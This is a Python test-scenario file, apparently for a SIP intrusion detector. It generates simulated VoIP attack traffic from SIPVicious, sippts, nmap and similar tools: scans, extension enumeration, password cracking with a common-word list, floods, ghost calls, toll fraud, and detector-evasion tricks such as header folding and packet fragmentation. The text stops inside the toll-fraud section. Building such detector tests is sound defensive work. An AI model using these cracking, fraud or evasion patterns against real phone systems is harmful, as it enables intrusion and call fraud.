# SPDX-License-Identifier: MIT
"""Attacks for adversary.py. Each function tells one story and returns {offender: stages}; a stage in parentheses may or may not be
found, all others must be. Every address that is not named must stay unreported."""
from adversary_words import *
from sipstory import Dialler, Phone, SipPts, SipVicious, Story, sipvicious_tag  # noqa: F401

ATTACKS = []
MAY = ",(exploit),(flood),(ghost-call),(probe)"
SWEEP, PROBE = "sweep" + MAY, "probe,(exploit),(flood)"
ENUM, CRACK = "enumerate" + MAY, "crack,(enumerate),(flood),(probe)"
BREACH, GHOST = "crack,breach,(enumerate),(flood),(probe)", "ghost-call,sweep,(flood),(probe)"
RINGS = "ghost-call,(sweep),(flood),(probe)"
TOLL, FLOOD = "toll-fraud,(enumerate),(probe)", "flood,(probe)"
ACCOUNTS = {"100": "verysecret100", "101": "verysecret101", "102": "x9x9x9", "200": "p200p", "1000": "1234", "1001": "pw1001x"}


def attack(title, **parameters):
    def keep(function):
        ATTACKS.append((title, function, parameters))
        return function
    return keep


def pbx_of(s, **how):
    return Pbx(s, PBX, ACCOUNTS, **{"leaks": True, **how})


def everybody(s, final=None):
    return {**phones_at(s, final=final), PBX: pbx_of(s).take}


# --- SIPVicious ------------------------------------------------------------------------------------------------------------

@attack("svmap-ascending")
@attack("svmap-fake-agent", agent="Yealink SIP-T46S 66.86.0.15")
@attack("svmap-no-agent", agent=None)
@attack("svmap-all-edited", agent="Cisco-SIPGateway/IOS-12.x", name="7001", host="198.51.100.1", local="203.0.113.5")
@attack("svmap-randomized", order="shuffle")
@attack("svmap-randomized-repeats", order="draw")
@attack("svmap-descending", order="down")
@attack("svmap-register", method="REGISTER")
@attack("svmap-invite", method="INVITE")
@attack("svmap-subscribe", method="SUBSCRIBE")
@attack("svmap-only-live", targets=LIVE[:6])
@attack("svmap-four", targets=[NETWORK[2], NETWORK[21], NETWORK[10], NETWORK[44]])
@attack("svmap-slow", pace=177.0)
@attack("svmap-port-moved", port=5099)
def svmap(s, agent="friendly-scanner", name="sipvicious", host="1.1.1.1", local="127.0.0.1", order=None, method="OPTIONS",
          targets=NETWORK, pace=0.0055, port=5060):
    tool = SipVicious(s, "203.0.113.5", port, agent, local)
    live, at, targets = everybody(s), 1.0, list(targets)
    if order == "shuffle":
        s.rng.shuffle(targets)
    elif order == "draw":
        targets = [s.rng.choice(targets) for _ in targets]
    elif order == "down":
        targets.reverse()
    for target in targets:
        tag = sipvicious_tag(s, f"{int(ipaddress.ip_address(target)):08x}{5060:04x}")
        request = tool.request(method, f"sip:100@{target}", name, "100", host, tag, s.digits(22, 25), f"sip:100@{local}:{port}")
        send(s, at, tool.source, (target, 5060), request, live)
        at += pace
    return {"203.0.113.5": SWEEP}


@attack("svmap-old-order")
@attack("svmap-old-order-agent", agent="Asterisk PBX")
def svmap_old(s, agent="friendly-scanner"):
    tool, live = OldVicious(s, ("203.0.113.6", 5060), agent), everybody(s)
    for n, target in enumerate(NETWORK):
        tag = sipvicious_tag(s, f"{int(ipaddress.ip_address(target)):08x}{5060:04x}")
        request = tool.request("OPTIONS", f"sip:100@{target}", '"sipvicious"<sip:100@1.1.1.1>', tag, s.digits(22, 25), "sip:100@127.0.0.1:5060")
        send(s, 1 + n * 0.0055, tool.source, (target, 5060), request, live)
    return {"203.0.113.6": SWEEP}


@attack("svmap-ports")
@attack("svmap-ports-one-host", hosts=[PBX], ports=range(5060, 5090))
def svmap_ports(s, hosts=NETWORK[8:15], ports=(5060, 5061, 5062, 5063, 5080)):
    tool, live, at = SipVicious(s, "203.0.113.7"), everybody(s), 1.0
    for target in hosts:
        for port in ports:
            tag = sipvicious_tag(s, f"{int(ipaddress.ip_address(target)):08x}{port:04x}")
            request = tool.request("OPTIONS", f"sip:100@{target}", "sipvicious", "100", "1.1.1.1", tag, s.digits(22, 25), "sip:100@127.0.0.1:5060")
            send(s, at, tool.source, (target, port), request, live)
            at += 0.0055
    return {"203.0.113.7": SWEEP}


@attack("svmap-ipv6")
@attack("svmap-ipv6-one", count=1, truth=PROBE)
def svmap_six(s, count=20, truth=SWEEP):
    source, tool = "2001:db8:bad::5", None
    tool = SipVicious(s, source, local="127.0.0.1")
    for n in range(count):
        target = f"2001:db8:100::{n + 10:x}"
        tag = sipvicious_tag(s, target.replace(":", "") + "5060")
        request = tool.request("OPTIONS", f"sip:100@[{target}]", "sipvicious", "100", "1.1.1.1", tag, s.digits(22, 25), "sip:100@127.0.0.1:5060")
        s.say(1 + n * 0.006, tool.source, (target, 5060), request)
        if n == 0:
            s.say(1.005, (target, 5060), tool.source, answer(request, 200, "OK", to_tag=s.hex(8)))
    return {source: truth}


@attack("svmap-80-sources")
@attack("svmap-80-sources-edited", agent="Grandstream GXP2170 1.0.11.74", host="203.0.113.200")
def svmap_spread(s, agent="friendly-scanner", host="1.1.1.1"):
    live, sources = everybody(s), [f"192.0.2.{n}" for n in range(101, 181)]
    for n in range(240):
        target = NETWORK[s.rng.randrange(64)]
        tool = SipVicious(s, sources[n % 80], agent=agent)
        tag = sipvicious_tag(s, f"{int(ipaddress.ip_address(target)):08x}{5060:04x}")
        request = tool.request("OPTIONS", f"sip:100@{target}", "sipvicious", "100", host, tag, s.digits(22, 25), "sip:100@127.0.0.1:5060")
        send(s, 1 + n * 8.7, tool.source, (target, 5060), request, live)
    return dict.fromkeys(sources, SWEEP)


@attack("svwar-register")
@attack("svwar-options", method="OPTIONS")
@attack("svwar-invite", method="INVITE")
@attack("svwar-slow", pace=113.0, extensions=range(100, 140))
@attack("svwar-hours", pace=900.0, extensions=range(100, 130))
@attack("svwar-hardened-forced", leaks=False)
@attack("svwar-answers-all", everything=True)
@attack("svwar-names", extensions=["admin", "alice", "bob", "test", "guest", "info", "sales", "carol", "100", "support"])
@attack("svwar-fake-agent", agent="Polycom/5.9.5.0614")
def svwar(s, method="REGISTER", pace=0.0055, extensions=range(95, 190), leaks=True, everything=False, agent="friendly-scanner"):
    pbx, tool = pbx_of(s, leaks=leaks), SipVicious(s, "203.0.113.15", agent=agent)
    if method != "REGISTER":
        pbx = TargetPbx(s, PBX, ACCOUNTS, leaks=True)
    if everything:
        pbx.take = lambda at, src, request: s.say(at + 0.004, pbx.at, src, answer(request, 200, "OK", to_tag=s.hex(8)))
    tool.war(1.0, pbx, extensions, method, pace)
    return {"203.0.113.15": ENUM}


class TargetPbx(Pbx):
    """Tells users apart by who is called, as a proxy with a location table does."""

    def take(self, at, src, request):
        user = request.start.split()[1].removeprefix("sip:").split("@")[0]
        if request.method not in ("INVITE", "OPTIONS") or not user:
            return super().take(at, src, request)
        if user not in self.accounts:
            return self._reply(at + 0.004, src, request, 404, "Not Found")
        if request.method == "OPTIONS":
            return self._reply(at + 0.004, src, request, 200, "OK")
        return self._reply(at + 0.004, src, request, 407, "Proxy Authentication Required", [("Proxy-Authenticate", self._challenge())])


@attack("svwar-hardened", truth="probe,(enumerate)" + MAY)
def svwar_hardened(s, truth):
    SipVicious(s, "203.0.113.16").war(1.0, pbx_of(s, leaks=False), [])
    return {"203.0.113.16": truth}


@attack("svwar-80-sources")
@attack("svwar-80-sources-agent", agent="Yealink SIP-T46S 66.86.0.15")
def svwar_spread(s, agent="friendly-scanner"):
    pbx, sources = pbx_of(s), [f"192.0.2.{n}" for n in range(101, 181)]
    for n in range(200):
        user = str(100 + n)
        tool = SipVicious(s, sources[n % 80], agent=agent)
        request = tool.request("REGISTER", f"sip:{PBX}", user, user, PBX, sipvicious_tag(s, user), s.digits(6, 10), f"sip:{user}@{PBX}")
        s.say(1 + n * 8.7, tool.source, pbx.at, request)
        pbx.take(1 + n * 8.7, tool.source, request)
    return dict.fromkeys(sources, ENUM)


WORDS = ["password", "123456", "letmein", "qwerty", "secret", "voip", "asterisk", "abc123", "pass1", "test", "dragon", "monkey"]


@attack("svcrack-dictionary")
@attack("svcrack-success", user="1000", guesses=WORDS + ["1234"], truth=BREACH)
@attack("svcrack-early-success", user="1000", guesses=["1000", "1111", "1234"], truth="breach,(crack),(probe),(enumerate)")
@attack("svcrack-slow", pace=600.0)
@attack("svcrack-agent", agent="Yealink SIP-T46S 66.86.0.15", guesses=[str(n) for n in range(1000, 1100)])
@attack("svcrack-403", refusal=(403, "Forbidden"))
def svcrack(s, user="101", guesses=WORDS * 3, truth=CRACK, pace=None, agent="friendly-scanner", refusal=(401, "Unauthorized")):
    SipVicious(s, "203.0.113.28", agent=agent).crack(1.0, pbx_of(s, refusal=refusal), user, guesses, pace)
    return {"203.0.113.28": truth}


@attack("svcrack-80-sources")
def svcrack_spread(s):
    pbx, sources = pbx_of(s), [f"192.0.2.{n}" for n in range(101, 181)]
    for n, source in enumerate(sources):
        SipVicious(s, source).crack(1 + n * 25.0, pbx, "101", [str(1000 + n * 3 + k) for k in range(3)], 8.0)
    return dict.fromkeys(sources, CRACK)


@attack("crack-plain-80-sources")
def crack_spread(s):
    """No tool shows itself: one account, many addresses, ordinary grammar."""
    pbx, sources = pbx_of(s), [f"192.0.2.{n}" for n in range(101, 141)]
    for n in range(120):
        Stack(s, "pjsip", sources[n % 40], "101").register(1 + n * 31.0, pbx, f"guess{n}", fresh=True)
    return dict.fromkeys(sources, CRACK)


@attack("crack-plain-slow")
def crack_slow(s):
    pbx = pbx_of(s)
    for n in range(120):
        Stack(s, "zoiper", "203.0.113.29", "101").register(1 + n * 1800.0, pbx, f"guess{n}", fresh=True)
    return {"203.0.113.29": CRACK}


@attack("crack-plain-spray")
def crack_spray(s):
    pbx = pbx_of(s, leaks=False, **{})
    for n in range(60):
        Stack(s, "linphone", "203.0.113.30", str(100 + n)).register(1 + n * 2.0, pbx, "123456", fresh=True)
    return {"203.0.113.30": CRACK}


@attack("svcrash", truth="exploit,(probe)")
def svcrash(s, truth):
    text = ("SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP 8.7.6.5:5061;branch=z9hG4bK-573841574;rport\r\n\r\nContent-length: 0\r\n"
            'From: "100"<sip:100@localhost>; tag=683a653a7901746865726501627965\r\nUser-agent: Telkom Box 2.4\r\n'
            'To: "100"<sip:100@localhost>\r\nCseq: 1 REGISTER\r\nCall-id: 469585712\r\nMax-forwards: 70\r\n\r\n')
    s.say(1, ("203.0.113.38", 5060), (LIVE[0], 5060), text)
    return {"203.0.113.38": truth}


# --- sippts ----------------------------------------------------------------------------------------------------------------

@attack("sippts-scan")
@attack("sippts-scan-agent", agent="Grandstream GXP2170 1.0.11.74")
@attack("sippts-scan-random", shuffled=True)
@attack("sippts-scan-no-route", local="None")
@attack("sippts-scan-register", method="REGISTER")
def sippts_scan(s, agent="pplsip", shuffled=False, local=None, method="OPTIONS"):
    tool, live, targets = SipPts(s, "203.0.113.40", agent), everybody(s), list(NETWORK[1:63])
    if shuffled:
        s.rng.shuffle(targets)
    tool.address = local or tool.address
    for n, target in enumerate(targets):
        host = targets[max(0, n - s.rng.randint(0, 4))]  # its threads share a variable
        port = s.rng.randint(20000, 60000)
        request = tool.request(method, f"sip:100@{host}", "100", host, port)
        send(s, 1 + n // 20 * 0.5 + n % 20 * 0.0007 + s.rng.random() * 0.003, ("203.0.113.40", port), (target, 5060), request, live)
    return {"203.0.113.40": SWEEP}


@attack("sippts-scan-tcp")
def sippts_tcp(s):
    tool = SipPts(s, "203.0.113.41")
    for n, target in enumerate(NETWORK[1:40]):
        port, at = s.rng.randint(20000, 60000), 1 + n * 0.01
        if target in LIVE[:12] or target == PBX:
            request = tool.request("OPTIONS", f"sip:100@{target}", "100", target, port, transport="TCP")
            tcp_ask(s, at, ("203.0.113.41", port), (target, 5060), [request], lambda r: answer(r, 200, "OK", to_tag=s.hex(8)))
        else:
            s.capture.segment(at, ("203.0.113.41", port), (target, 5060), 1, 0, 2)
            s.capture.segment(at + 0.001, (target, 5060), ("203.0.113.41", port), 0, 2, 0x14)
    return {"203.0.113.41": SWEEP}


@attack("sippts-exten")
@attack("sippts-exten-agent", agent="Yealink SIP-T46S 66.86.0.15")
@attack("sippts-exten-invite", method="INVITE")
@attack("sippts-exten-options", method="OPTIONS")
@attack("sippts-exten-hardened", leaks=False)
def sippts_exten(s, method="REGISTER", agent="pplsip", leaks=True):
    tool = SipPts(s, "203.0.113.42", agent)
    pbx = pbx_of(s, leaks=leaks) if method == "REGISTER" else TargetPbx(s, PBX, ACCOUNTS, leaks=True)
    for n, user in enumerate(range(100, 200)):
        port, at = s.rng.randint(20000, 60000), 1 + n // 10 * 0.2 + n % 10 * 0.0008
        uri = f"sip:{PBX}" if method == "REGISTER" else f"sip:{user}@{PBX}"
        request = tool.request(method, uri, str(user), PBX, port)
        s.say(at, (tool.address, port), pbx.at, request)
        pbx.take(at, (tool.address, port), request)
    return {"203.0.113.42": ENUM}


@attack("sippts-rcrack")
@attack("sippts-rcrack-agent", agent="Z 5.5.9 v2.10.17.2")
@attack("sippts-rcrack-success", user="1000", guesses=[str(n) for n in range(1200, 1235)], truth=BREACH)
@attack("sippts-rcrack-slow", pace=300.0)
@attack("sippts-rcrack-slow-success", user="1000", guesses=[str(n) for n in range(1200, 1235)], pace=300.0, truth=BREACH)
def sippts_rcrack(s, agent="pplsip", user="101", guesses=[str(n) for n in range(1000, 1060)], truth=CRACK, pace=0.1):
    SipPts(s, "203.0.113.43", agent).crack(1, pbx_of(s), user, guesses, pace)
    return {"203.0.113.43": truth}


@attack("sippts-ping", truth="probe,(flood)")
def sippts_ping(s, truth):
    tool, pbx = SipPts(s, "203.0.113.44"), pbx_of(s)
    tool.address, call_id = "None", s.hex(32)
    for n in range(12):
        request = tool.request("OPTIONS", f"sip:100@{PBX}", "100", PBX, 5060, call_id, cseq=n + 1)
        s.say(1 + n, ("203.0.113.44", 5060), pbx.at, request)
        pbx.take(1 + n, ("203.0.113.44", 5060), request)
    return {"203.0.113.44": truth}


@attack("sippts-leak")
@attack("sippts-leak-agent", agent="Cisco/SPA508G-7.4.4")
def sippts_leak(s, agent="pplsip"):
    """Calls phones, waits for them to hang up, and challenges their BYE."""
    tool, live = SipPts(s, "203.0.113.45", agent), phones_at(s)
    for n, target in enumerate(LIVE[:10]):
        port = s.rng.randint(20000, 60000)
        request = tool.request("INVITE", f"sip:100@{target}", "100", target, port, body=sdp("203.0.113.45", 4000, "SIPPTS"))
        send(s, 1 + n * 13, ("203.0.113.45", port), (target, 5060), request, live)
    return {"203.0.113.45": GHOST}


@attack("sippts-invite")
@attack("sippts-invite-authenticated", account=("1000", "1234"), truth=TOLL + ",(breach)")
def sippts_invite(s, account=None, truth=TOLL):
    tool, pbx = SipPts(s, "203.0.113.46"), pbx_of(s)
    for n in range(20):
        number, port, at = s.digits(2, 5) + "972599123456", s.rng.randint(20000, 60000), 1 + n * 2.0
        uri, source, call_id = f"sip:{number}@{PBX}", ("203.0.113.46", port), s.hex(32)
        body, auth = sdp("203.0.113.46", 4000, "SIPPTS"), None
        for turn in range(2):
            request = tool.request("INVITE", uri, account[0] if account else "100", PBX, port, call_id, turn + 1, auth, to=number, body=body)
            s.say(at + turn * 0.2, source, pbx.at, request)
            last = pbx.take(at + turn * 0.2, source, request)
            ack = tool.request("ACK", uri, account[0] if account else "100", PBX, port, call_id, turn + 1, to=number)
            ack.fields[2] = ("To", last.get("To"))
            s.say(at + turn * 0.2 + (3.2 if last.code == 200 else 0.1), source, pbx.at, ack)
            if last.code != 401 or not account:
                break
            realm, nonce, response = digest("INVITE", uri, *account, last.get("WWW-Authenticate"))
            auth = f'Digest username="{account[0]}", realm="{realm}",nonce="{nonce}",uri="{uri}", response="{response}", algorithm=MD5'
    return {"203.0.113.46": truth}


@attack("sippts-flood")
@attack("sippts-flood-invite", method="INVITE")
@attack("sippts-flood-register", method="REGISTER", agent="Yealink SIP-T46S 66.86.0.15")
@attack("flood-random", agent=None)
def sippts_flood(s, method="OPTIONS", agent="pplsip"):
    tool, pbx = SipPts(s, "203.0.113.47", agent), pbx_of(s)
    for n in range(4000):
        at, port = 1 + n * 0.002, s.rng.randint(20000, 60000)
        request = tool.request(method, f"sip:100@{PBX}", "100", PBX, port) if agent else random_probe(s, ("203.0.113.47", port), PBX, "100")
        s.say(at, ("203.0.113.47", port), pbx.at, request)
        if n % 3 == 0:
            pbx.take(at, ("203.0.113.47", port), request)
    return {"203.0.113.47": FLOOD}


# --- Mr.SIP, nmap, zmap, masscan, sipsak -----------------------------------------------------------------------------------

@attack("mrsip-nes")
@attack("mrsip-nes-invite", method="INVITE")
@attack("mrsip-nes-subscribe", method="SUBSCRIBE")
def mrsip_nes(s, method="OPTIONS"):
    tool, live = Mrsip(s, "203.0.113.50"), {PBX: pbx_of(s).take}
    for n, target in enumerate(NETWORK[1:63]):
        send(s, 1 + n * 0.05, ("203.0.113.50", tool.port()), (target, 5060), tool.text(method, "100", target), live)
    return {"203.0.113.50": SWEEP}


@attack("mrsip-enum")
@attack("mrsip-enum-subscribe", method="SUBSCRIBE")
@attack("mrsip-enum-invite", method="INVITE")
@attack("mrsip-enum-hardened", leaks=False)
def mrsip_enum(s, method="REGISTER", leaks=True):
    tool, pbx = Mrsip(s, "203.0.113.51"), pbx_of(s, leaks=leaks)
    for n in range(80):
        source, request = ("203.0.113.51", tool.port()), tool.text(method, str(90 + n), PBX)
        s.say(1 + n * 0.05, source, pbx.at, request)
        pbx.take(1 + n * 0.05, source, request)
    return {"203.0.113.51": ENUM}


@attack("mrsip-das")
@attack("mrsip-das-options", method="OPTIONS")
def mrsip_das(s, method="INVITE"):
    tool, pbx = Mrsip(s, "203.0.113.52"), pbx_of(s)
    for n in range(3000):
        source, request = ("203.0.113.52", tool.port()), tool.text(method, s.digits(3), PBX)
        s.say(1 + n * 0.003, source, pbx.at, request)
        if n % 4 == 0:
            pbx.take(1 + n * 0.003, source, request)
    return {"203.0.113.52": FLOOD}


@attack("nmap-methods")
@attack("nmap-methods-agent", agent="Cisco-CP7960G/8.0")
def nmap_methods(s, agent="Nmap NSE"):
    tool, live = Nmap(s, "203.0.113.55", agent), everybody(s)
    targets = list(NETWORK)
    for n, target in enumerate(targets):
        port = s.rng.randint(33000, 60000)
        for k in range(2):
            s.capture.udp(0.5 + n * 0.01 + k, ("203.0.113.55", 41000 + 2 * k), (target, 5060), b"", ttl=s.rng.randint(37, 59))
        send(s, 4 + n * 0.02, ("203.0.113.55", port), (target, 5060), tool.request("OPTIONS", s.digits(3), target, port), live)
    return {"203.0.113.55": SWEEP}


@attack("nmap-one")
@attack("nmap-one-agent", agent="Yealink SIP-T46S 66.86.0.15")
def nmap_one(s, agent="Nmap NSE"):
    tool, pbx = Nmap(s, "203.0.113.56", agent), pbx_of(s)
    request = tool.request("OPTIONS", "100", PBX, 45111)
    s.say(1, ("203.0.113.56", 45111), pbx.at, request)
    pbx.take(1, ("203.0.113.56", 45111), request)
    return {"203.0.113.56": PROBE}


@attack("nmap-enum")
@attack("nmap-enum-agent", agent="Polycom/5.9.5.0614")
def nmap_enum(s, agent="Nmap NSE"):
    tool, pbx = Nmap(s, "203.0.113.57", agent), pbx_of(s)
    for n, user in enumerate([s.digits(9)] + [str(u) for u in range(90, 170)]):
        port = s.rng.randint(33000, 60000)
        request = tool.request("REGISTER", user, PBX, port)
        s.say(1 + n * 0.01, (tool.address, port), pbx.at, request)
        pbx.take(1 + n * 0.01, (tool.address, port), request)
    return {"203.0.113.57": ENUM}


@attack("nmap-call-spoof")
def nmap_spoof(s):
    tool, live = Nmap(s, "203.0.113.58", "Ekiga"), phones_at(s)
    for n, target in enumerate(LIVE):
        port = s.rng.randint(33000, 60000)
        send(s, 1 + n * 3, (tool.address, port), (target, 5060), tool.request("INVITE", s.digits(3), target, port, "Boss"), live)
    return {"203.0.113.58": GHOST}


@attack("nmap-service", transport="TCP")
@attack("nmap-service-udp", transport="UDP")
def nmap_service(s, transport):
    from mkpcap import TcpFlow
    source, text = ("203.0.113.59", 43210), NMAP_SERVICE.format(transport)
    if transport == "UDP":
        s.say(1, source, (PBX, 5060), text)
        s.say(1.01, (PBX, 5060), source, "SIP/2.0 400 Bad Request\r\nVia: SIP/2.0/UDP nm;branch=foo;rport=43210;received=203.0.113.59\r\n"
              "From: <sip:nm@nm>;tag=root\r\nTo: <sip:nm2@nm2>;tag=1\r\nCall-ID: 50000\r\nCSeq: 42 OPTIONS\r\nContent-Length: 0\r\n\r\n")
    else:
        flow = TcpFlow(s.capture, 1, source, (PBX, 5060))
        flow.send(1.1, "GET / HTTP/1.0\r\n\r\n")
        flow.close(6)
        flow = TcpFlow(s.capture, 7, ("203.0.113.59", 43214), (PBX, 5060))
        flow.send(7.1, text)
        flow.close(12)
    return {"203.0.113.59": PROBE}


@attack("zmap", ttl=255)
@attack("zmap-wide", ttl=250, count=200)
def zmap(s, ttl, count=64):
    live = {PBX: pbx_of(s).take}
    targets = [str(ipaddress.ip_address("198.51.100.0") + n) for n in range(count)]
    s.rng.shuffle(targets)
    for n, target in enumerate(targets):
        source = ("203.0.113.60", s.rng.randint(32768, 61000))
        s.say(1 + n * 0.01, source, (target, 5060), zmap_probe(s, source, target), ttl=ttl)
    return {"203.0.113.60": SWEEP}


@attack("zmap-one-host", probe=zmap_probe)
def zmap_one(s, probe):
    source = ("203.0.113.61", 40001)
    s.say(1, source, (PBX, 5060), probe(s, source, PBX), ttl=250)
    s.say(1.004, (PBX, 5060), source, "SIP/2.0 200 OK\r\nVia: SIP/2.0/UDP 203.0.113.61:40001;branch=a.1\r\nContent-Length: 0\r\n\r\n")
    return {"203.0.113.61": PROBE}


@attack("masscan")
@attack("masscan-one", count=1, truth=PROBE)
def masscan(s, count=64, truth=SWEEP):
    targets = [PBX] if count == 1 else s.rng.sample(NETWORK, count)
    for n, target in enumerate(targets):
        s.say(1 + n * 0.01, ("203.0.113.62", 41970), (target, 5060), MASSCAN, ttl=255)
    return {"203.0.113.62": truth}


@attack("sipsak-sweep")
def sipsak_sweep(s):
    live = everybody(s)
    for n, target in enumerate(NETWORK[1:50]):
        port = s.rng.randint(33000, 60000)
        send(s, 1 + n * 0.1, ("203.0.113.63", port), (target, 5060), sipsak(s, "203.0.113.63", port, "OPTIONS", f"sip:100@{target}"), live)
    return {"203.0.113.63": SWEEP}


@attack("sipsak-enumerate")
def sipsak_enumerate(s):
    pbx = pbx_of(s)
    for n in range(60):
        port = s.rng.randint(33000, 60000)
        request = sipsak(s, "203.0.113.64", port, "REGISTER", f"sip:{100 + n}@{PBX}", str(100 + n))
        s.say(1 + n * 0.1, ("203.0.113.64", port), pbx.at, request)
        pbx.take(1 + n * 0.1, ("203.0.113.64", port), request)
    return {"203.0.113.64": ENUM}


@attack("sipsak-flood")
def sipsak_flood(s):
    pbx = pbx_of(s)
    for n in range(6000):
        request = sipsak(s, "203.0.113.65", 9, "OPTIONS", f"sip:100@{PBX}", via_port=9)
        s.say(1 + n * 0.0005, ("203.0.113.65", 40404), pbx.at, request)
    request = sipsak(s, "203.0.113.65", 9, "OPTIONS", f"sip:100@{PBX}", via_port=9)
    s.say(5, ("203.0.113.65", 40404), pbx.at, request)
    pbx.take(5, ("203.0.113.65", 40404), request)
    return {"203.0.113.65": FLOOD}


# --- evasion ---------------------------------------------------------------------------------------------------------------

@attack("evade-random")
@attack("evade-random-shuffled", order="shuffle")
@attack("evade-random-slow", pace=61.0)
@attack("evade-random-port", port=5070)
@attack("evade-lines", how="crlf")
@attack("evade-folded", how="folded")
@attack("evade-compact", how="compact")
@attack("evade-case", how="case")
@attack("evade-bare", how="bare")
@attack("evade-fragments", how="fragments")
@attack("evade-fragments-reordered", how="reordered")
@attack("evade-fragments-overlapping", how="overlapping")
def evade(s, how=None, order=None, pace=0.05, port=5060):
    live, targets = everybody(s), list(NETWORK[:63])
    if order:
        s.rng.shuffle(targets)
    for n, target in enumerate(targets):
        source, at = ("203.0.113.124", s.rng.randint(20000, 60000)), 1 + n * pace
        request = random_probe(s, source, target)
        text = request.text()
        if how in ("folded", "compact", "case", "bare"):
            text = disguise(text, how, s.rng)
        elif how == "crlf":
            text = "\r\n" * s.rng.randint(1, 4) + text
        request.sent_to = (target, port)
        if how in ("fragments", "reordered", "overlapping"):
            order_of = (lambda count: list(range(count))[::-1]) if how == "reordered" else None
            fragments(s, at, source, (target, port), text, 24 if how == "fragments" else 64, order_of, how == "overlapping")
        else:
            s.say(at, source, (target, port), text)
        if target in live and how != "overlapping":
            live[target](at + 0.005, source, request)
    return {"203.0.113.124": SWEEP}


@attack("evade-escaped-users")
@attack("evade-escaped-hardened", leaks=False)
def evade_escaped(s, leaks=True):
    pbx = pbx_of(s, leaks=leaks)
    for n in range(60):
        user = "".join(f"%{ord(c):02x}" for c in str(100 + n))
        source = ("203.0.113.125", 5060)
        request = Stack(s, "zoiper", source[0], user).request("REGISTER", f"sip:{PBX}", user, PBX)
        s.say(1 + n * 0.2, source, pbx.at, request)
        pbx.take(1 + n * 0.2, source, request)
    return {"203.0.113.125": ENUM}


@attack("evade-tcp-cut", cut=7)
@attack("evade-tcp-many", together=10)
@attack("evade-tcp-both", cut=101, together=4)
def evade_tcp(s, cut=None, together=1):
    source = ("203.0.113.126", 45000)
    requests = [random_probe(s, source, PBX, str(100 + n)) for n in range(60)]
    for n, r in enumerate(requests):
        r.start = r.start.replace("OPTIONS", "REGISTER")
        r.fields = [("CSeq", "1 REGISTER") if f[0] == "CSeq" else (f[0], f[1].replace("UDP", "TCP")) if f[0] == "Via" else f for f in r.fields]
    tcp_ask(s, 1, source, (PBX, 5060), requests, lambda r: answer(r, 404, "Not Found", to_tag=s.hex(8)), cut, together)
    return {"203.0.113.126": ENUM}


# --- ghost calls -----------------------------------------------------------------------------------------------------------

@attack("ghost-100", caller="100")
@attack("ghost-1000-shuffled", caller="1000", order="shuffle")
@attack("ghost-1101-five", caller="1101", phones=LIVE[3:8], truth=RINGS)
@attack("ghost-named", caller="4921112345", agent="Yealink SIP-T46S 66.86.0.15")
@attack("ghost-no-agent", caller="1001", agent=None)
@attack("ghost-slow", caller="1101", gap=300.0)
@attack("ghost-answered", caller="100", final=(4, 200, "OK"))
@attack("ghost-declined", caller="100", final=(6, 603, "Decline"))
@attack("ghost-with-cancel", caller="1101", cancel=2.0)
def ghost(s, caller, phones=LIVE, agent="sipcli/v1.8", gap=1.5, order=None, final=None, cancel=None, truth=GHOST):
    live, phones = phones_at(s, final=final), list(phones)
    if order:
        s.rng.shuffle(phones)
    for n, phone in enumerate(phones):
        source, at = ("203.0.113.70", 5071), 1 + n * gap
        fields = [("Via", f"SIP/2.0/UDP {source[0]}:5071;branch=z9hG4bK-{s.hex(32)};rport"), ("Max-Forwards", "70"),
                  ("From", f'"{caller}" <sip:{caller}@{source[0]}>;tag={s.hex(8)}'), ("To", f"<sip:100@{phone}>"), ("Call-ID", s.hex(24)),
                  ("CSeq", "1 INVITE"), ("Contact", f"<sip:{caller}@{source[0]}:5071>")]
        fields += [("User-Agent", agent)] if agent else []
        request = Message(f"INVITE sip:100@{phone} SIP/2.0", fields + [("Content-Length", "0")])
        mark = send(s, at, source, (phone, 5060), request, live)
        if final and final[1] == 200:
            ack = [("To", f"<sip:100@{phone}>;tag={mark}") if f[0] == "To" else ("CSeq", "1 ACK") if f[0] == "CSeq" else f for f in fields]
            s.say(at + 4.1, source, (phone, 5060), Message(f"ACK sip:100@{phone} SIP/2.0", ack + [("Content-Length", "0")]))
        if cancel:
            stop = Message(f"CANCEL sip:100@{phone} SIP/2.0", [("CSeq", "1 CANCEL") if f[0] == "CSeq" else f for f in fields])
            s.say(at + cancel, source, (phone, 5060), stop)
            s.say(at + cancel + 0.01, (phone, 5060), source, answer(stop, 200, "OK", to_tag="5"))
            s.say(at + cancel + 0.02, (phone, 5060), source, answer(request, 487, "Request Terminated", to_tag="5"))
    return {"203.0.113.70": truth}


@attack("ghost-sipp")
def ghost_sipp(s):
    live = phones_at(s)
    for n, phone in enumerate(LIVE):
        request = sipp(s, "203.0.113.71", 5062, n + 1, host=phone)
        send(s, 1 + n * 1.1, ("203.0.113.71", 5062), (phone, 5060), request, live)
    return {"203.0.113.71": GHOST}


@attack("ghost-at-registered-phones")
def ghost_registered(s):
    """Phones with a provider elsewhere, behind one address each; the stranger calls the ports that NAT opened."""
    pbx = Pbx(s, PBX, {str(200 + n): f"pw{n}" for n in range(12)})
    phones = [Phone(s, f"192.168.{n}.20", str(200 + n), f"pw{n}", "snom", seen_as=(f"192.0.2.{20 + n}", 5060)) for n in range(12)]
    for n, phone in enumerate(phones):
        phone.register(1 + n * 0.3, pbx)
    live = phones_at(s, [p.seen_as[0] for p in phones])
    for n, phone in enumerate(phones):
        source = ("203.0.113.72", 5060)
        tool = SipVicious(s, source[0], agent="friendly-scanner")
        tag = sipvicious_tag(s, f"{int(ipaddress.ip_address(phone.seen_as[0])):08x}13c4")
        request = tool.request("INVITE", f"sip:100@{phone.seen_as[0]}", "100", "100", "1.1.1.1", tag, s.digits(22), "sip:100@127.0.0.1:5060")
        send(s, 60 + n * 2, source, (phone.seen_as[0], 5060), request, live)
    return {"203.0.113.72": GHOST}


# --- toll fraud ------------------------------------------------------------------------------------------------------------

PREFIXES = ["", "0", "00", "000", "0000", "9", "90", "900", "9000", "9011", "011", "0011", "810", "9810", "8", "800", "1", "100", "7", "70", "+"]


@attack("toll-sipcli")
@attack("toll-vax", agent="VaxSIPUserAgent/3.5")
@attack("toll-gateway", agent="Cisco-SIPGateway/IOS-12.x")
@attack("toll-403", refuse=(403, "Forbidden"))
@attack("toll-404", refuse=(404, "Not Found"))
@attack("toll-603", refuse=(603, "Declined"))
@attack("toll-slow", gap=600.0)
@attack("toll-few-prefixes", prefixes=PREFIXES[:7])
@attack("toll-many-numbers", tails=["972599123456", "46812118532", "441224928354", "37166000111"])
@attack("toll-stolen-account", account=("1000", "1234"))
@attack("toll-guest-answered", guests=True)
@attack("toll-silent", silent=True)
